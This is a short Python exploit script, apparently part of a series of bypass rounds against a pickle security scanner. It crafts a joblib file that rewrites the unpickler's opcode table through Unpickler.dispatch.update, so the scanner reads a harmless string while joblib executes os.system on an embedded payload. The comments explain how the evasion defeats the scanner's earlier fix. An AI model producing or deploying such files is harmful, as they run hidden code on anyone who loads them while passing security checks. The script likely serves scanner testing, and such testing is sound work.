# round 4's c8 through a CALL instead of a SETITEM opcode: protocol 4 resolves the dotted global
# joblib.numpy_pickle_utils.Unpickler.dispatch.update (pickle._Unpickler's opcode table's bound
# `update`, a name the policy does not refuse); REDUCE with {ord('N'): load_short_binstring}
# rewrites the table that joblib's object-array reader (a fresh pickle._Unpickler) uses. The
# scanner's fix for c8 only looks at items opcodes on imported objects. The array's nested
# pickle: scanner sees NONE, BINSTRING (over the payload), STOP; joblib sees SHORT_BINSTRING
# (84 bytes), POP, os.system(...), STOP.
import struct
from common import *
pre = b'\x80\x04'
pre += G('joblib.numpy_pickle_utils', 'Unpickler.dispatch.update') + b'(}' + b'K' + bytes([ord('N')]) + G('joblib.numpy_pickle_utils', 'Unpickler.load_short_binstring') + b'stR0'
W = G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(1) + b'\x85' + U('C') + dtype('O8') + b'\x89NtR}b'
body = b'0' + PAYLOAD + b'.'
inner = bytearray(b'N' + b'T' + b'\0\0\0\0' + b'a' * 80 + body)
assert inner.index(body) == 86
inner[2:6] = struct.pack('<i', len(inner) - 1 - 6)
run('d7c_dispatch_update_call.joblib', pre + W + bytes(inner) + b'.')
